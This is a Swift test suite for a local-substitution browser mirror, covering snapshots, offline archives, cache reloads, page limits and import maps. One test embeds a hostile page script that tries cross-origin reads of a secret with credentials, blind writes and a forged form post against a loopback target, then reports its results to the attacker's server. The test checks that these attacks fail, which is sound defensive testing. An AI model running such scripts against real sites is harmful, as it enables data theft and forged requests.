import Foundation
import FoundationNetworking
import LoopbackServer
import TestSupport
import Testing

@testable import Browser
@testable import LocalSubstitutionArchive
@testable import LocalSubstitutionCache
@testable import LocalSubstitutionWebViews
@testable import SubstitutionRules

extension WebKitTests {
    @Suite("The Demo's page", .serialized)
    struct DemoPageTests {
        /// Shows the page, and returns a snapshot and the requests that its server received.
        private func show(
            _ site: DemoSite,
            _ way: Way,
            _ cache: SubstitutionCache? = nil,
            _ archive: OfflineArchive? = nil
        ) async throws -> (picture: Data, requests: [String]) {
            site.server.forgetRequests()
            let browser = try await way.browser(cache ?? site.cache, forwardingTo: [site.page], archive)
            try await browser.load(way.address(of: site.page))
            let pictures = try await browser.evaluate("return [...document.images].filter(i => i.naturalWidth).length")
            #expect(pictures == "6")
            return (try await browser.picture(), site.requests)
        }

        @Test("With the app's files it requests only what changes, and looks the same if the files are the same")
        func files() async throws {
            let (same, other) = (try DemoSite(isSame: true), try DemoSite())
            let network = try await show(other, .network)
            #expect(network.requests.count == 9)
            let (rules, mirror) = (try await show(other, .rules), try await show(other, .mirror))
            #expect(rules.requests == ["/", "/live/tide.svg"] && mirror.requests == ["/live/tide.svg"])
            #expect(rules.picture != network.picture && rules.picture == mirror.picture)
            let expected = try await show(same, .network).picture
            for way in [Way.rules, .mirror] { #expect(try await show(same, way).picture == expected) }
        }

        @Test("A mirror that was shown once looks the same after its server has stopped, from another archive")
        func offline() async throws {
            let (site, folder) = (try DemoSite(), try TemporaryFolder())
            let cache = try folder.cache("{}")
            func archive() throws -> OfflineArchive {
                let directory = folder.url.appendingPathComponent("archive")
                return try OfflineArchive(directory: directory, capacity: 10_000_000, hosts: ["127.0.0.1"])
            }
            let online = try await show(site, .mirror, cache, archive())
            #expect(online.requests.count == 9)
            site.server.stop()
            #expect(try await show(site, .mirror, cache, archive()).picture == online.picture)
        }
    }

    @Suite("Pages and SchemeServer", .serialized)
    struct PageTests {
        /// A site with a page, and an app with a file for the page's stylesheet.
        private struct Scene {
            let folder: TemporaryFolder
            let cache: SubstitutionCache
            let site: LoopbackServer

            init(_ respond: @escaping @Sendable (LoopbackServer.Request) -> LoopbackServer.Response) throws {
                folder = try TemporaryFolder()
                try folder.write(":root { --who: first }", to: "site.css")
                site = try LoopbackServer(respond)
                try folder.write(#"{ "\#(site.url.absoluteString)/site.css": "site.css" }"#, to: "manifest.json")
                cache = try SubstitutionCache(manifest: folder.url.appendingPathComponent("manifest.json"))
            }

            static func html(_ text: String) -> LoopbackServer.Response {
                .init(headers: ["Content-Type": "text/html"], body: Data(text.utf8))
            }
        }

        private static let who = "return getComputedStyle(document.documentElement).getPropertyValue('--who').trim()"

        @Test(
            "After reload(), a view shows the new files, because their responses say no-cache",
            arguments: [Way.rules, .mirror]
        )
        func reload(way: Way) async throws {
            let scene = try Scene { _ in Scene.html("<link rel=stylesheet href=/site.css>") }
            defer { scene.site.stop() }
            let browser = try await way.browser(scene.cache, forwardingTo: [scene.site.url.absoluteString])
            let page = way.address(of: scene.site.url.absoluteString)
            try await browser.load(page + "/1")
            #expect(try await browser.evaluate(Self.who) == "first")
            try FileManager.default.removeItem(at: scene.folder.url.appendingPathComponent("site.css"))
            try scene.folder.write(":root { --who: second }", to: "site.css")
            try scene.cache.reload()
            try await browser.load(page + "/2")
            #expect(try await browser.evaluate(Self.who) == "second")
        }

        @Test("A mirror page loads what its policy allows, and lacks the features that the documentation lists")
        func limits() async throws {
            let scene = try Scene { request in
                guard request.path == "/page" else { return .text(request.headers["referer"] ?? "-") }
                var page = Scene.html(
                    "<meta http-equiv=Content-Security-Policy content=\"style-src http:\"><link rel=stylesheet href=/site.css>"
                )
                page.headers["Content-Security-Policy"] = "default-src http: 'unsafe-inline'"
                page.headers["Cross-Origin-Opener-Policy"] = "same-origin"
                page.headers["Cross-Origin-Embedder-Policy"] = "require-corp"
                return page
            }
            defer { scene.site.stop() }
            let browser = try await Way.mirror.browser(scene.cache, forwardingTo: [scene.site.url.absoluteString])
            try await browser.load(Way.mirror.address(of: scene.site.url.absoluteString) + "/page")
            #expect(try await browser.evaluate(Self.who) == "first")
            let lacks = """
                const attempt = async body => { try { return String(await body()); } catch (error) { return error.name; } };
                document.cookie = "a=1";
                return [
                  await attempt(() => navigator.serviceWorker.register("/worker.js")), crossOriginIsolated,
                  typeof SharedArrayBuffer, document.cookie, document.referrer,
                  await attempt(() => navigator.sendBeacon("/beacon", "x")),
                ].join("|");
                """
            #expect(try await browser.evaluate(lacks) == "TypeError|false|undefined|||TypeError")
            let synchronous = """
                const request = new XMLHttpRequest();
                request.open("GET", "/forwarded", false);
                request.send();
                return request.responseText;
                """
            #expect(try await browser.evaluate(synchronous) == "-")
            #expect(!scene.site.requests.contains { $0.path == "/beacon" || $0.path == "/worker.js" })
        }

        /// The script of a page that tries to attack another host.
        private static let attacks = """
            const results = [];
            const attempt = async (name, load) => { try { results.push(name + " " + await load()); } catch { results.push(name + " failed"); } };
            const text = async (path, options) => { const answer = await fetch(TARGET + path, options); return answer.type + " " + (await answer.text()); };
            await attempt("read", () => text("/secret"));
            await attempt("read with credentials", () => text("/secret", { credentials: "include" }));
            await attempt("read blindly", () => text("/blind", { mode: "no-cors" }));
            await attempt("write", () => text("/write-post", { method: "POST", body: "x" }));
            await attempt("write blindly", () => text("/write-blind", { method: "POST", body: "x", mode: "no-cors", referrerPolicy: "no-referrer" }));
            await attempt("put", () => text("/write-put", { method: "PUT", headers: { "X-Own": "1" } }));
            await attempt("other host", () => text("/x".replace("/x", ""), {}).catch(() => fetch("substitution-http://127.0.0.1:1/intranet").then(a => a.text())));
            const form = document.createElement("form");
            Object.assign(form, { method: "post", action: TARGET + "/write-form", target: "sink" });
            const sink = document.createElement("iframe");
            sink.name = "sink";
            document.body.append(sink, form);
            form.submit();
            await new Promise(done => setTimeout(done, 500));
            """

        @Test("A hostile page neither reads nor writes by the mirror, in a view or frame", arguments: [true, false])
        func hostile(isFrame: Bool) async throws {
            let scene = try Scene { request in
                request.path == "/page"
                    ? Scene.html("<iframe src=\"\(request.target.dropFirst("/page?".count))\"></iframe>")
                    : .init(
                        headers: ["Set-Cookie": "session=1; Path=/", "Content-Type": "text/plain"],
                        body: Data("secret \(request.headers["cookie"] ?? "-")".utf8)
                    )
            }
            defer { scene.site.stop() }
            let target = Way.mirror.address(of: scene.site.url.absoluteString)
            let evil = try LoopbackServer { request in
                if request.path == "/report" { return .text("") }
                return Scene.html(
                    "<body><script>const TARGET = '\(target)'; (async () => { \(Self.attacks) fetch('/report', { method: 'POST', body: results.join('; ') }); })()</script>"
                )
            }
            defer { evil.stop() }
            let browser = try await Way.mirror.browser(scene.cache, forwardingTo: [scene.site.url.absoluteString])
            // The site sets a session cookie.
            try await browser.load(target + "/login")
            scene.site.forgetRequests()
            try await browser.begin((isFrame ? "\(target)/page?" : "") + evil.url.absoluteString + "/")
            var report: String?
            for _ in 0..<300 where report == nil {
                try await Task.sleep(nanoseconds: 100_000_000)
                report = evil.requests.first { $0.path == "/report" }.map { String(decoding: $0.body, as: UTF8.self) }
            }
            let results = try #require(report)
            #expect(!results.contains("secret"), "\(results)")
            let reached = scene.site.requests.filter { $0.path != "/page" }
            #expect(reached.allSatisfy { $0.method == "GET" && $0.headers["cookie"] == nil }, "\(reached)")
            // The page's own requests are sent, with the session cookie.
            try await browser.load(target + "/page?about:blank")
            let own = try await browser.evaluate("return (await fetch('/own', { method: 'POST', body: 'x' })).text()")
            #expect(own == "secret session=1")
        }

        @Test("A mirror with an import map and unusual addresses needs no network")
        func importMaps() async throws {
            let folder = try TemporaryFolder()
            let picture = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'/>"
            let tools = "import { Scene } from 'three'; export const tools = Scene === 'scene' && 'tools';"
            for (name, text) in [
                ("cdn/three.js", "export const Scene = 'scene'; globalThis.count = (globalThis.count || 0) + 1;"),
                ("cdn/addons/tools.js", tools), ("cdn/old/three.js", "export const Scene = 'old';"),
                ("cdn/old/app.js", "import { Scene } from 'three'; export const old = Scene;"),
                ("site/img/a.svg", picture), ("site/dir/b.svg", picture), ("cdn/c.svg", picture),
                (
                    "site/dir/index.html",
                    """
                    <!doctype html><title>-</title>
                    <script type="importmap">
                    {
                      "imports": {
                        "three": "https://cdn.test/three.js", "three/addons/": "https:\\/\\/cdn.test/addons/",
                        "old": "https://cdn.test/old/app.js", "https://cdn.test/whole.js": "https://cdn.test/three.js"
                      },
                      "scopes": { "https://cdn.test/old/": { "three": "https://CDN.test:443/old/three.js" } },
                      "integrity": { "https://cdn.test/three.js": "sha256-hgZxZw/spPiwcmHPbqB+9jgpcAujtpOy81FvuiO/xv8=" }
                    }
                    </script>
                    <script type="module">
                    import { Scene } from "three";
                    import { tools } from "three/addons/tools.js";
                    import { old } from "old";
                    import * as whole from "https://cdn.test/whole.js";
                    document.title = [Scene, tools, old, whole.Scene, globalThis.count].join(" ");
                    </script>
                    <img src="..\\img\\a.svg"><img src="https:b.svg"><img src="\\\\cdn.test\\c.svg"><img src="///cdn.test/c.svg">
                    """
                ),
            ] { try folder.write(text, to: name) }
            let cache = try folder.cache(#"{ "https://site.test/": "site/", "https://cdn.test/": "cdn/" }"#)
            let browser = try await Way.mirror.browser(cache, forwardingTo: [])
            try await browser.load("substitution-https://site.test/dir/")
            var title = "-"
            try await wait(for: "the title") {
                title = try await browser.evaluate("return document.title")
                return title != "-"
            }
            #expect(title == "scene tools old scene 1")
            let widths = try await browser.evaluate("return [...document.images].map(i => i.naturalWidth).join()")
            #expect(widths == "9,9,9,9")
        }

        @Test("WebKit's own compiler accepts every generated expression")
        func expressions() async throws {
            let folder = try TemporaryFolder()
            let long = String(repeating: "n", count: 200)
            for name in ["a b", "ü", "[1]*", "a'b\"c|d^e%f", "x(1),y+", "{2}$", long] {
                try folder.write("x", to: "f/\(name).css")
            }
            try folder.write("x", to: "a.css")
            let manifest = """
                { "//h/": "f/", "https://h/q.*|^${}()[].css?a=1&b=|": "a.css",
                  "//[::1]:8080/a": { "file": "a.css", "ignoreQuery": true },
                  "https://x/b?c=d": { "file": "a.css", "ignoreQuery": ["v", "utm_*", "a.b|c"] } }
                """
            let pages = try PageExtension(folder.cache(manifest).substitutions, name: "manifest.json")
            let file = try #require(pages.files["rules.json"])
            let rules = try #require(JSONSerialization.jsonObject(with: file) as? [[String: Any]])
            let expressions = rules.compactMap { ($0["condition"] as? [String: Any])?["regexFilter"] as? String }
            #expect(rules.count > 20 && expressions.count == rules.count)
            try await ContentFilter.compile(expressions)
            for refused in ["a|b", "\\d", "a{2}"] {
                await #expect(throws: BrowserError.self) { try await ContentFilter.compile([refused]) }
            }
        }
    }
}
